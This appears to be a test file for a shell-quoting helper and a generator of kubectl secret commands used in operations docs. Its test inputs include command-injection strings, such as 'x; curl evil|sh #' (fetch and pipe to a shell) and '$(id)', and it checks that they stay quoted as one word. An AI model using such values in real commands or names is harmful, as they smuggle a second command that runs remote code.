// The commands of docs/operate.md have one word for each name, whatever a team calls its Secrets.
import { execFileSync } from 'node:child_process';
import { secretCommands, shellWord } from '../../scripts/docs/secrets';

test.each(['grafana', 'x; curl evil|sh #', "it's", '$(id)', '`id`', 'a b', '"', '\\', '*', 'ü'])(
  '%j is one word of a shell',
  (text) => {
    const read = execFileSync('sh', ['-c', `printf '%s|' ${shellWord(text)}`], {
      encoding: 'utf8',
    });
    expect(read).toBe(`${text}|`);
  },
);

test('a control character is refused', () => {
  expect(() => shellWord('a\nb')).toThrow('cannot be a word');
});

test('a Secret of a team is quoted', () => {
  const workload = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'a', namespace: 'shop' },
    spec: {
      template: {
        spec: {
          containers: [],
          volumes: [{ secret: { secretName: 'x; curl evil|sh #', items: [{ key: '1' }] } }],
        },
      },
    },
  };
  const commands = secretCommands([{ file: 'a.yaml', path: 'a', object: workload }]);
  expect(commands).toContain("create secret generic 'x; curl evil|sh #'");
  expect(commands).toContain('--from-literal=1="$X_CURL_EVIL_SH_1"');
});
